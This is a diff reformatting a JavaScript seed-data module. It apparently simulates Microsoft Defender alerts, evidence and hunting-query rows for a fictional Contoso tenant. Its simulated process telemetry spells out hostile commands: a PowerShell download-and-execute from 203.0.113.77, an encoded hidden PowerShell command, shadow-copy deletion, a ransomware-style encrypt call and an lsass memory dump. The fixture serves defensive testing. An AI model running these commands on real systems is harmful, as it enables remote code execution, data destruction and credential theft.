+		'microsoftDefenderForOffice365',
+		'microsoftDefenderForOffice365',
+		'InitialAccess',
+		'A potentially malicious URL click was detected',
+		630,
+		640,
+		['T1566.002'],
+	],
+	[
+		'alert-1008-02',
+		'1008',
+		'high',
+		'new',
+		'microsoftDefenderForCloudApps',
+		'cloudAppSecurity',
+		'Persistence',
+		'Suspicious inbox manipulation rule',
+		644,
+		1020,
+		['T1564.008'],
+	],
+	[
+		'alert-1008-03',
+		'1008',
+		'medium',
+		'inProgress',
+		'microsoftDefenderForOffice365',
+		'microsoftDefenderForOffice365',
+		'Exfiltration',
+		'Suspicious email forwarding activity',
+		651,
+		990,
+		['T1114.003'],
+	],
 ];
 
 /** The entities each alert names: `device:`, `file:`, `user:` (account name), `ip:`, `url:` or `mail:` (subject). */
 const ALERT_EVIDENCE = /** @type {Record<string, string[]>} */ ({
 	'alert-1001-01': ['device:WS-FIN-042', 'user:megan.bowen', 'ip:198.51.100.45'],
-	'alert-1001-02': ['device:WS-FIN-042', 'device:WS-FIN-051', 'device:WS-FIN-039', 'file:svcupdate.exe'],
+	'alert-1001-02': [
+		'device:WS-FIN-042',
+		'device:WS-FIN-051',
+		'device:WS-FIN-039',
+		'file:svcupdate.exe',
+	],
 	'alert-1002-01': ['device:SRV-FILE-02', 'file:invoice_0412.pdf.exe', 'file:payroll_update.js'],
 	'alert-1002-02': ['device:SRV-SQL-07', 'url:cdn-update-check.net', 'ip:198.51.100.23'],
 	'alert-1003-01': ['device:SRV-SQL-07', 'file:PresenokerSetup.exe'],
-	'alert-1004-01': ['user:megan.bowen', 'mail:Updated payment instructions', 'url:https://contoso-payroll.net/login'],
+	'alert-1004-01': [
+		'user:megan.bowen',
+		'mail:Updated payment instructions',
+		'url:https://contoso-payroll.net/login',
+	],
 	'alert-1004-02': ['user:alex.wilber', 'user:megan.bowen', 'device:LT-HR-113'],
 	'alert-1004-03': ['device:LT-EXEC-003', 'user:adele.vance', 'file:procdump64.exe'],
 	'alert-1005-01': ['device:WS-DEV-201', 'user:johanna.lorenz', 'file:svchost32.exe'],
@@ -462,7 +1168,12 @@ const ALERT_EVIDENCE = /** @type {Record<string, string[]>} */ ({
 	'alert-1006-01': ['device:SRV-WEB-12', 'ip:203.0.113.77'],
 	'alert-1007-01': ['user:diego.siciliani', 'ip:192.0.2.200'],
 	'alert-1007-02': ['device:WS-OPS-088', 'user:diego.siciliani'],
-	'alert-1008-01': ['user:lidia.holloway', 'device:LT-SALES-019', 'url:https://docs-share-contoso.com/q4-bonus', 'mail:Shared document: Q4 bonus plan'],
+	'alert-1008-01': [
+		'user:lidia.holloway',
+		'device:LT-SALES-019',
+		'url:https://docs-share-contoso.com/q4-bonus',
+		'mail:Shared document: Q4 bonus plan',
+	],
 	'alert-1008-02': ['user:lidia.holloway', 'mail:Action required: payroll portal update'],
 	'alert-1008-03': ['user:lidia.holloway', 'user:grady.archie', 'mail:Your mailbox is almost full'],
 });
@@ -475,7 +1186,15 @@ const ALERT_EVIDENCE = /** @type {Record<string, string[]>} */ ({
 function graphEvidence(ref, createdDateTime) {
 	const [kind, ...rest] = ref.split(':');
 	const key = rest.join(':');
-	const common = { createdDateTime, verdict: 'suspicious', remediationStatus: 'none', remediationStatusDetails: null, roles: [], detailedRoles: [], tags: [] };
+	const common = {
+		createdDateTime,
+		verdict: 'suspicious',
+		remediationStatus: 'none',
+		remediationStatusDetails: null,
+		roles: [],
+		detailedRoles: [],
+		tags: [],
+	};
 	if (kind === 'device') {
 		const device = DEVICES[key];
 		const user = USERS[device.user];
@@ -506,7 +1225,16 @@ function graphEvidence(ref, createdDateTime) {
 			verdict: 'malicious',
 			detectionStatus: 'detected',
 			mdeDeviceId: DEVICES[file.device].deviceId,
-			fileDetails: { sha1: file.sha1, sha256: file.sha256, fileName: file.name, filePath: file.folderPath, fileSize: file.size, filePublisher: null, signer: null, issuer: null },
+			fileDetails: {
+				sha1: file.sha1,
+				sha256: file.sha256,
+				fileName: file.name,
+				filePath: file.folderPath,
+				fileSize: file.size,
+				filePublisher: null,
+				signer: null,
+				issuer: null,
+			},
 		};
 	}
 	if (kind === 'user') {
@@ -515,11 +1243,30 @@ function graphEvidence(ref, createdDateTime) {
 			'@odata.type': '#microsoft.graph.security.userEvidence',
 			...common,
 			detailedRoles: ['Compromised account'],
-			userAccount: { accountName: user.accountName, domainName: 'CONTOSO', userSid: user.sid, azureAdUserId: user.objectId, userPrincipalName: user.upn, displayName: user.displayName },
+			userAccount: {
+				accountName: user.accountName,
+				domainName: 'CONTOSO',
+				userSid: user.sid,
+				azureAdUserId: user.objectId,
+				userPrincipalName: user.upn,
+				displayName: user.displayName,
+			},
 		};
 	}
-	if (kind === 'ip') return { '@odata.type': '#microsoft.graph.security.ipEvidence', ...common, ipAddress: key, countryLetterCode: null };
-	if (kind === 'url') return { '@odata.type': '#microsoft.graph.security.urlEvidence', ...common, verdict: 'malicious', url: key };
+	if (kind === 'ip')
+		return {
+			'@odata.type': '#microsoft.graph.security.ipEvidence',
+			...common,
+			ipAddress: key,
+			countryLetterCode: null,
+		};
+	if (kind === 'url')
+		return {
+			'@odata.type': '#microsoft.graph.security.urlEvidence',
+			...common,
+			verdict: 'malicious',
+			url: key,
+		};
 	const mail = MAILS[key];
 	return {
 		'@odata.type': '#microsoft.graph.security.analyzedMessageEvidence',
@@ -536,7 +1283,19 @@ function graphEvidence(ref, createdDateTime) {
 
 /** @param {AlertRow} row */
 function buildAlert(row) {
-	const [id, incidentId, severity, status, serviceSource, detectionSource, category, title, created, updated, mitreTechniques] = row;
+	const [
+		id,
+		incidentId,
+		severity,
+		status,
+		serviceSource,
+		detectionSource,
+		category,
+		title,
+		created,
+		updated,
+		mitreTechniques,
+	] = row;
 	const incident = INCIDENT_ROWS.find((candidate) => candidate[0] === incidentId);
 	const resolved = status === 'resolved';
 	return {
@@ -553,7 +1312,8 @@ function buildAlert(row) {
 		tenantId: SEED_TENANT_GUID,
 		title,
 		description: `${title}. Review the alert story in the Microsoft Defender portal.`,
-		recommendedActions: 'Investigate the alert story, contain affected assets and review related alerts.',
+		recommendedActions:
+			'Investigate the alert story, contain affected assets and review related alerts.',
 		category,
 		assignedTo: null,
 		alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${SEED_TENANT_GUID}`,
@@ -581,29 +1341,88 @@ const SEED_ALERTS = deepFreeze(ALERT_ROWS.map(buildAlert));
 /** Column name and type, as runHuntingQuery reports them in `schema`. */
 const HUNTING_COLUMNS = /** @type {Record<string, [string, string][]>} */ ({
 	DeviceInfo: [
-		['Timestamp', 'DateTime'], ['DeviceId', 'String'], ['DeviceName', 'String'], ['DeviceType', 'String'], ['OSPlatform', 'String'], ['OSBuild', 'Int64'],
-		['PublicIP', 'String'], ['MachineGroup', 'String'], ['OnboardingStatus', 'String'], ['ExposureLevel', 'String'], ['ReportId', 'Int64'],
+		['Timestamp', 'DateTime'],
+		['DeviceId', 'String'],
+		['DeviceName', 'String'],
+		['DeviceType', 'String'],
+		['OSPlatform', 'String'],
+		['OSBuild', 'Int64'],
+		['PublicIP', 'String'],
+		['MachineGroup', 'String'],
+		['OnboardingStatus', 'String'],
+		['ExposureLevel', 'String'],
+		['ReportId', 'Int64'],
 	],
 	DeviceProcessEvents: [
-		['Timestamp', 'DateTime'], ['DeviceId', 'String'], ['DeviceName', 'String'], ['ActionType', 'String'], ['FileName', 'String'], ['FolderPath', 'String'],
-		['SHA1', 'String'], ['SHA256', 'String'], ['ProcessCommandLine', 'String'], ['AccountDomain', 'String'], ['AccountName', 'String'], ['AccountUpn', 'String'],
-		['InitiatingProcessFileName', 'String'], ['InitiatingProcessCommandLine', 'String'], ['InitiatingProcessAccountName', 'String'], ['ReportId', 'Int64'],
+		['Timestamp', 'DateTime'],
+		['DeviceId', 'String'],
+		['DeviceName', 'String'],
+		['ActionType', 'String'],
+		['FileName', 'String'],
+		['FolderPath', 'String'],
+		['SHA1', 'String'],
+		['SHA256', 'String'],
+		['ProcessCommandLine', 'String'],
+		['AccountDomain', 'String'],
+		['AccountName', 'String'],
+		['AccountUpn', 'String'],
+		['InitiatingProcessFileName', 'String'],
+		['InitiatingProcessCommandLine', 'String'],
+		['InitiatingProcessAccountName', 'String'],
+		['ReportId', 'Int64'],
 	],
 	DeviceNetworkEvents: [
-		['Timestamp', 'DateTime'], ['DeviceId', 'String'], ['DeviceName', 'String'], ['ActionType', 'String'], ['RemoteIP', 'String'], ['RemotePort', 'Int32'],
-		['RemoteUrl', 'String'], ['LocalIP', 'String'], ['LocalPort', 'Int32'], ['Protocol', 'String'], ['InitiatingProcessFileName', 'String'],
-		['InitiatingProcessAccountName', 'String'], ['ReportId', 'Int64'],
+		['Timestamp', 'DateTime'],
+		['DeviceId', 'String'],
+		['DeviceName', 'String'],
+		['ActionType', 'String'],
+		['RemoteIP', 'String'],
+		['RemotePort', 'Int32'],
+		['RemoteUrl', 'String'],
+		['LocalIP', 'String'],
+		['LocalPort', 'Int32'],
+		['Protocol', 'String'],
+		['InitiatingProcessFileName', 'String'],
+		['InitiatingProcessAccountName', 'String'],
+		['ReportId', 'Int64'],
 	],
 	AlertInfo: [
-		['Timestamp', 'DateTime'], ['AlertId', 'String'], ['Title', 'String'], ['Category', 'String'], ['Severity', 'String'], ['ServiceSource', 'String'],
-		['DetectionSource', 'String'], ['AttackTechniques', 'String'],
+		['Timestamp', 'DateTime'],
+		['AlertId', 'String'],
+		['Title', 'String'],
+		['Category', 'String'],
+		['Severity', 'String'],
+		['ServiceSource', 'String'],
+		['DetectionSource', 'String'],
+		['AttackTechniques', 'String'],
 	],
 	AlertEvidence: [
-		['Timestamp', 'DateTime'], ['AlertId', 'String'], ['Title', 'String'], ['Categories', 'String'], ['AttackTechniques', 'String'], ['ServiceSource', 'String'],
-		['DetectionSource', 'String'], ['EntityType', 'String'], ['EvidenceRole', 'String'], ['FileName', 'String'], ['FolderPath', 'String'], ['SHA1', 'String'],
-		['SHA256', 'String'], ['FileSize', 'Int64'], ['RemoteIP', 'String'], ['RemoteUrl', 'String'], ['AccountName', 'String'], ['AccountDomain', 'String'],
-		['AccountSid', 'String'], ['AccountObjectId', 'String'], ['AccountUpn', 'String'], ['DeviceId', 'String'], ['DeviceName', 'String'], ['LocalIP', 'String'],
-		['NetworkMessageId', 'String'], ['EmailSubject', 'String'],
+		['Timestamp', 'DateTime'],
+		['AlertId', 'String'],
+		['Title', 'String'],
+		['Categories', 'String'],
+		['AttackTechniques', 'String'],
+		['ServiceSource', 'String'],
+		['DetectionSource', 'String'],
+		['EntityType', 'String'],
+		['EvidenceRole', 'String'],
+		['FileName', 'String'],
+		['FolderPath', 'String'],
+		['SHA1', 'String'],
+		['SHA256', 'String'],
+		['FileSize', 'Int64'],
+		['RemoteIP', 'String'],
+		['RemoteUrl', 'String'],
+		['AccountName', 'String'],
+		['AccountDomain', 'String'],
+		['AccountSid', 'String'],
+		['AccountObjectId', 'String'],
+		['AccountUpn', 'String'],
+		['DeviceId', 'String'],
+		['DeviceName', 'String'],
+		['LocalIP', 'String'],
+		['NetworkMessageId', 'String'],
+		['EmailSubject', 'String'],
 	],
 });
 
@@ -612,23 +1431,176 @@ const HUNTING_COLUMNS = /** @type {Record<string, [string, string][]>} */ ({
  * @type {[number, string, string, string, string, string, string, string][]}
  */
 const PROCESS_ROWS = [
-	[-4, 'WS-FIN-042', 'megan.bowen', 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\megan.bowen\\Downloads\\Q4 adjustments.docm"'],
-	[-2, 'WS-FIN-042', 'megan.bowen', 'svcupdate.exe', 'C:\\ProgramData\\Microsoft\\svcupdate', 'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt', 'powershell.exe', 'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
-	[8, 'WS-FIN-051', 'patti.fernandez', 'svcupdate.exe', 'C:\\ProgramData\\Microsoft\\svcupdate', 'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt', 'WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding'],
-	[10, 'WS-FIN-039', 'lynne.robbins', 'svcupdate.exe', 'C:\\ProgramData\\Microsoft\\svcupdate', 'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt', 'WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding'],
-	[11, 'WS-FIN-042', 'megan.bowen', 'vssadmin.exe', 'C:\\Windows\\System32', 'vssadmin.exe delete shadows /all /quiet', 'svcupdate.exe', 'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt'],
-	[86, 'SRV-FILE-02', 'svc-backup', 'invoice_0412.pdf.exe', 'D:\\Shares\\Finance\\Invoices', 'invoice_0412.pdf.exe', 'explorer.exe', 'C:\\Windows\\explorer.exe'],
-	[87, 'SRV-FILE-02', 'svc-backup', 'wscript.exe', 'C:\\Windows\\System32', 'wscript.exe D:\\Shares\\Finance\\Payroll\\payroll_update.js', 'invoice_0412.pdf.exe', 'invoice_0412.pdf.exe'],
-	[98, 'SRV-SQL-07', 'svc-backup', 'invoice_0412.pdf.exe', '\\\\SRV-FILE-02\\Finance\\Invoices', 'invoice_0412.pdf.exe', 'explorer.exe', 'C:\\Windows\\explorer.exe'],
-	[176, 'SRV-SQL-07', 'svc-backup', 'PresenokerSetup.exe', 'C:\\Users\\Public\\Downloads', 'PresenokerSetup.exe /S', 'msedge.exe', '"msedge.exe" --single-argument https://free-pdf-tools.example/setup'],
-	[279, 'LT-HR-113', 'alex.wilber', 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', 'powershell.exe -c "Get-ADUser -Filter * -Properties memberOf | Export-Csv users.csv"', 'cmd.exe', 'cmd.exe'],
-	[292, 'LT-EXEC-003', 'adele.vance', 'procdump64.exe', 'C:\\Windows\\Temp', 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp', 'cmd.exe', 'cmd.exe /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe'],
-	[356, 'WS-DEV-201', 'johanna.lorenz', 'svchost32.exe', 'C:\\Users\\johanna.lorenz\\AppData\\Roaming', 'svchost32.exe', 'chrome.exe', '"chrome.exe" https://vscode-extension-update.example/setup.exe'],
-	[370, 'WS-DEV-201', 'johanna.lorenz', 'rundll32.exe', 'C:\\Windows\\System32', 'rundll32.exe C:\\Users\\johanna.lorenz\\AppData\\Local\\Temp\\devtools-helper.dll,Start', 'svchost32.exe', 'svchost32.exe'],
-	[446, 'SRV-WEB-12', 'svc-web', 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')", 'w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"'],
-	[552, 'WS-OPS-088', 'diego.siciliani', 'net.exe', 'C:\\Windows\\System32', 'net.exe user /domain', 'cmd.exe', 'cmd.exe'],
-	[553, 'WS-OPS-088', 'diego.siciliani', 'net.exe', 'C:\\Windows\\System32', 'net.exe group "Domain Admins" /domain', 'cmd.exe', 'cmd.exe'],
-	[628, 'LT-SALES-019', 'lidia.holloway', 'msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', '"msedge.exe" --single-argument https://docs-share-contoso.com/q4-bonus', 'OUTLOOK.EXE', '"OUTLOOK.EXE"'],
+	[
+		-4,
+		'WS-FIN-042',
+		'megan.bowen',
+		'powershell.exe',
+		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+		'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+		'WINWORD.EXE',
+		'"WINWORD.EXE" /n "C:\\Users\\megan.bowen\\Downloads\\Q4 adjustments.docm"',
+	],
+	[
+		-2,
+		'WS-FIN-042',
+		'megan.bowen',
+		'svcupdate.exe',
+		'C:\\ProgramData\\Microsoft\\svcupdate',
+		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
+		'powershell.exe',
+		'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+	],
+	[
+		8,
+		'WS-FIN-051',
+		'patti.fernandez',
+		'svcupdate.exe',
+		'C:\\ProgramData\\Microsoft\\svcupdate',
+		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
+		'WmiPrvSE.exe',
+		'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
+	],
+	[
+		10,
+		'WS-FIN-039',
+		'lynne.robbins',
+		'svcupdate.exe',
+		'C:\\ProgramData\\Microsoft\\svcupdate',
+		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
+		'WmiPrvSE.exe',
+		'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
+	],
+	[
+		11,
+		'WS-FIN-042',
+		'megan.bowen',
+		'vssadmin.exe',
+		'C:\\Windows\\System32',
+		'vssadmin.exe delete shadows /all /quiet',
+		'svcupdate.exe',
+		'svcupdate.exe --encrypt D:\\ --note README_RESTORE.txt',
+	],
+	[
+		86,
+		'SRV-FILE-02',
+		'svc-backup',
+		'invoice_0412.pdf.exe',
+		'D:\\Shares\\Finance\\Invoices',
+		'invoice_0412.pdf.exe',
+		'explorer.exe',
+		'C:\\Windows\\explorer.exe',
+	],
+	[
+		87,
+		'SRV-FILE-02',
+		'svc-backup',
+		'wscript.exe',
+		'C:\\Windows\\System32',
+		'wscript.exe D:\\Shares\\Finance\\Payroll\\payroll_update.js',
+		'invoice_0412.pdf.exe',
+		'invoice_0412.pdf.exe',
+	],
+	[
+		98,
+		'SRV-SQL-07',
+		'svc-backup',
+		'invoice_0412.pdf.exe',
+		'\\\\SRV-FILE-02\\Finance\\Invoices',
+		'invoice_0412.pdf.exe',
+		'explorer.exe',
+		'C:\\Windows\\explorer.exe',
+	],
+	[
+		176,
+		'SRV-SQL-07',
+		'svc-backup',
+		'PresenokerSetup.exe',
+		'C:\\Users\\Public\\Downloads',
+		'PresenokerSetup.exe /S',
+		'msedge.exe',
+		'"msedge.exe" --single-argument https://free-pdf-tools.example/setup',
+	],
+	[
+		279,
+		'LT-HR-113',
+		'alex.wilber',
+		'powershell.exe',
+		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+		'powershell.exe -c "Get-ADUser -Filter * -Properties memberOf | Export-Csv users.csv"',
+		'cmd.exe',
+		'cmd.exe',
+	],
+	[
+		292,
+		'LT-EXEC-003',
+		'adele.vance',
+		'procdump64.exe',
+		'C:\\Windows\\Temp',
+		'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp',
+		'cmd.exe',
+		'cmd.exe /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe',
+	],
+	[
+		356,
+		'WS-DEV-201',
+		'johanna.lorenz',
+		'svchost32.exe',
+		'C:\\Users\\johanna.lorenz\\AppData\\Roaming',
+		'svchost32.exe',
+		'chrome.exe',
+		'"chrome.exe" https://vscode-extension-update.example/setup.exe',
+	],
+	[
+		370,
+		'WS-DEV-201',
+		'johanna.lorenz',
+		'rundll32.exe',
+		'C:\\Windows\\System32',
+		'rundll32.exe C:\\Users\\johanna.lorenz\\AppData\\Local\\Temp\\devtools-helper.dll,Start',
+		'svchost32.exe',
+		'svchost32.exe',
+	],
+	[
+		446,
+		'SRV-WEB-12',
+		'svc-web',
+		'powershell.exe',
+		'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+		"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')",
+		'w3wp.exe',
+		'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
+	],
+	[
+		552,
+		'WS-OPS-088',
+		'diego.siciliani',
+		'net.exe',
+		'C:\\Windows\\System32',
+		'net.exe user /domain',
+		'cmd.exe',
+		'cmd.exe',
+	],
+	[
+		553,
+		'WS-OPS-088',
+		'diego.siciliani',
+		'net.exe',
+		'C:\\Windows\\System32',
+		'net.exe group "Domain Admins" /domain',
+		'cmd.exe',
+		'cmd.exe',
+	],
+	[
+		628,
+		'LT-SALES-019',
+		'lidia.holloway',
+		'msedge.exe',
+		'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
+		'"msedge.exe" --single-argument https://docs-share-contoso.com/q4-bonus',
+		'OUTLOOK.EXE',
+		'"OUTLOOK.EXE"',
+	],
 ];
 
 /**
@@ -638,11 +1610,35 @@ const PROCESS_ROWS = [
 const CONNECTION_ROWS = [
 	[-3, 'WS-FIN-042', 'megan.bowen', '198.51.100.45', 443, '', 'powershell.exe'],
 	[88, 'SRV-FILE-02', 'svc-backup', '198.51.100.23', 443, 'cdn-update-check.net', 'wscript.exe'],
-	[99, 'SRV-SQL-07', 'svc-backup', '198.51.100.23', 443, 'cdn-update-check.net', 'invoice_0412.pdf.exe'],
+	[
+		99,
+		'SRV-SQL-07',
+		'svc-backup',
+		'198.51.100.23',
+		443,
+		'cdn-update-check.net',
+		'invoice_0412.pdf.exe',
+	],
 	[268, 'WS-FIN-042', 'megan.bowen', '198.51.100.90', 443, 'contoso-payroll.net', 'msedge.exe'],
-	[357, 'WS-DEV-201', 'johanna.lorenz', '192.0.2.61', 443, 'vscode-extension-update.example', 'svchost32.exe'],
+	[
+		357,
+		'WS-DEV-201',
+		'johanna.lorenz',
+		'192.0.2.61',
+		443,
+		'vscode-extension-update.example',
+		'svchost32.exe',
+	],
 	[447, 'SRV-WEB-12', 'svc-web', '203.0.113.77', 80, '', 'powershell.exe'],
-	[628, 'LT-SALES-019', 'lidia.holloway', '198.51.100.80', 443, 'docs-share-contoso.com', 'msedge.exe'],
+	[
+		628,
+		'LT-SALES-019',
+		'lidia.holloway',
+		'198.51.100.80',
+		443,
+		'docs-share-contoso.com',
+		'msedge.exe',
+	],
 ];
 
 const SERVICE_SOURCE_NAMES = /** @type {Record<string, string>} */ ({
@@ -659,7 +1655,14 @@ const DETECTION_SOURCE_NAMES = /** @type {Record<string, string>} */ ({
 	microsoftDefenderForIdentity: 'Microsoft Defender for Identity',
 	cloudAppSecurity: 'Microsoft Defender for Cloud Apps',
 });
-const ENTITY_TYPES = /** @type {Record<string, string>} */ ({ device: 'Machine', file: 'File', user: 'User', ip: 'Ip', url: 'Url', mail: 'MailMessage' });
+const ENTITY_TYPES = /** @type {Record<string, string>} */ ({
+	device: 'Machine',
+	file: 'File',
+	user: 'User',
+	ip: 'Ip',
+	url: 'Url',
+	mail: 'MailMessage',
+});
 
 /** @param {string} text */
 const capitalized = (text) => text.charAt(0).toUpperCase() + text.slice(1);
@@ -684,89 +1687,137 @@ function buildHuntingRows() {
 		ExposureLevel: 'Medium',
 		ReportId: reportId(index),
 	}));
-	const processes = PROCESS_ROWS.map(([minutes, deviceName, account, fileName, folder, commandLine, initiating, initiatingCommandLine], index) => ({
-		Timestamp: at(minutes),
-		DeviceId: DEVICES[deviceName].deviceId,
-		DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
-		ActionType: 'ProcessCreated',
-		FileName: fileName,
-		FolderPath: `${folder}\\${fileName}`,
-		SHA1: FILES[fileName]?.sha1 ?? sha1(`binary:${fileName}`),
-		SHA256: FILES[fileName]?.sha256 ?? sha256(`binary:${fileName}`),
-		ProcessCommandLine: commandLine,
-		AccountDomain: 'contoso',
-		AccountName: account,
-		AccountUpn: USERS[account].upn,
-		InitiatingProcessFileName: initiating,
-		InitiatingProcessCommandLine: initiatingCommandLine,
-		InitiatingProcessAccountName: account,
-		ReportId: reportId(100 + index),
-	}));
-	const connections = CONNECTION_ROWS.map(([minutes, deviceName, account, remoteIp, remotePort, remoteUrl, initiating], index) => ({
-		Timestamp: at(minutes),
-		DeviceId: DEVICES[deviceName].deviceId,
-		DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
-		ActionType: 'ConnectionSuccess',
-		RemoteIP: remoteIp,
-		RemotePort: remotePort,
-		RemoteUrl: remoteUrl,
-		LocalIP: DEVICES[deviceName].ipAddress,
-		LocalPort: 49_700 + index,
-		Protocol: 'Tcp',
-		InitiatingProcessFileName: initiating,
-		InitiatingProcessAccountName: account,
-		ReportId: reportId(200 + index),
-	}));
-	const alertInfo = ALERT_ROWS.map(([id, , severity, , serviceSource, detectionSource, category, title, created, , techniques]) => ({
-		Timestamp: at(created),
-		AlertId: id,
-		Title: title,
-		Category: category,
-		Severity: capitalized(severity),
-		ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
-		DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
-		AttackTechniques: JSON.stringify(techniques),
-	}));
-	const alertEvidence = ALERT_ROWS.flatMap(([id, , , , serviceSource, detectionSource, category, title, created, , techniques]) =>
-		(ALERT_EVIDENCE[id] ?? []).map((ref) => {
-			const [kind, ...rest] = ref.split(':');
-			const key = rest.join(':');
-			const device = kind === 'device' ? DEVICES[key] : kind === 'file' ? DEVICES[FILES[key].device] : undefined;
-			const user = kind === 'user' ? USERS[key] : kind === 'mail' ? USERS[MAILS[key].recipient] : undefined;
-			const file = kind === 'file' ? FILES[key] : undefined;
-			return {
-				Timestamp: at(created),
-				AlertId: id,
-				Title: title,
-				Categories: JSON.stringify([category]),
-				AttackTechniques: JSON.stringify(techniques),
-				ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
-				DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
-				EntityType: ENTITY_TYPES[kind],
-				EvidenceRole: kind === 'device' || kind === 'user' ? 'Impacted' : 'Related',
-				FileName: file?.name,
-				FolderPath: file ? `${file.folderPath}\\${file.name}` : undefined,
-				SHA1: file?.sha1,
-				SHA256: file?.sha256,
-				FileSize: file?.size,
-				RemoteIP: kind === 'ip' ? key : undefined,
-				RemoteUrl: kind === 'url' ? key : undefined,
-				AccountName: user?.accountName,
-				AccountDomain: user ? 'contoso' : undefined,
-				AccountSid: user?.sid,
-				AccountObjectId: user?.objectId,
-				AccountUpn: user?.upn,
-				DeviceId: device?.deviceId,
-				DeviceName: device ? `${device.name.toLowerCase()}.${DOMAIN}` : undefined,
-				LocalIP: device?.ipAddress,
-				NetworkMessageId: kind === 'mail' ? MAILS[key].networkMessageId : undefined,
-				EmailSubject: kind === 'mail' ? key : undefined,
-			};
+	const processes = PROCESS_ROWS.map(
+		(
+			[
+				minutes,
+				deviceName,
+				account,
+				fileName,
+				folder,
+				commandLine,
+				initiating,
+				initiatingCommandLine,
+			],
+			index,
+		) => ({
+			Timestamp: at(minutes),
+			DeviceId: DEVICES[deviceName].deviceId,
+			DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
+			ActionType: 'ProcessCreated',
+			FileName: fileName,
+			FolderPath: `${folder}\\${fileName}`,
+			SHA1: FILES[fileName]?.sha1 ?? sha1(`binary:${fileName}`),
+			SHA256: FILES[fileName]?.sha256 ?? sha256(`binary:${fileName}`),
+			ProcessCommandLine: commandLine,
+			AccountDomain: 'contoso',
+			AccountName: account,
+			AccountUpn: USERS[account].upn,
+			InitiatingProcessFileName: initiating,
+			InitiatingProcessCommandLine: initiatingCommandLine,
+			InitiatingProcessAccountName: account,
+			ReportId: reportId(100 + index),
 		}),
 	);
+	const connections = CONNECTION_ROWS.map(
+		([minutes, deviceName, account, remoteIp, remotePort, remoteUrl, initiating], index) => ({
+			Timestamp: at(minutes),
+			DeviceId: DEVICES[deviceName].deviceId,
+			DeviceName: `${deviceName.toLowerCase()}.${DOMAIN}`,
+			ActionType: 'ConnectionSuccess',
+			RemoteIP: remoteIp,
+			RemotePort: remotePort,
+			RemoteUrl: remoteUrl,
+			LocalIP: DEVICES[deviceName].ipAddress,
+			LocalPort: 49_700 + index,
+			Protocol: 'Tcp',
+			InitiatingProcessFileName: initiating,
+			InitiatingProcessAccountName: account,
+			ReportId: reportId(200 + index),
+		}),
+	);
+	const alertInfo = ALERT_ROWS.map(
+		([
+			id,
+			,
+			severity,
+			,
+			serviceSource,
+			detectionSource,
+			category,
+			title,
+			created,
+			,
+			techniques,
+		]) => ({
+			Timestamp: at(created),
+			AlertId: id,
+			Title: title,
+			Category: category,
+			Severity: capitalized(severity),
+			ServiceSource: SERVICE_SOURCE_NAMES[serviceSource],
+			DetectionSource: DETECTION_SOURCE_NAMES[detectionSource],
+			AttackTechniques: JSON.stringify(techniques),
+		}),
+	);
+	const alertEvidence = ALERT_ROWS.flatMap(
+		([id, , , , serviceSource, detectionSource, category, title, created, , techniques]) =>
+			(ALERT_EVIDENCE[id] ?? []).map((ref) => {
+				const [kind, ...rest] = ref.split(':');
+				const key = rest.join(':');
+				const device =
+					kind === 'device'
+						? DEVICES[key]
+						: kind === 'file'
+							? DEVICES[FILES[key].device]
+							: undefined;
+				const user =
+					kind === 'user' ? USERS[key] : kind === 'mail' ? USERS[MAILS[key].recipient] : undefined;
+				const file = kind === 'file' ? FILES[key] : undefined;
+				return {
+					Timestamp: at(created),
+					AlertId: id,
+					Title: title,
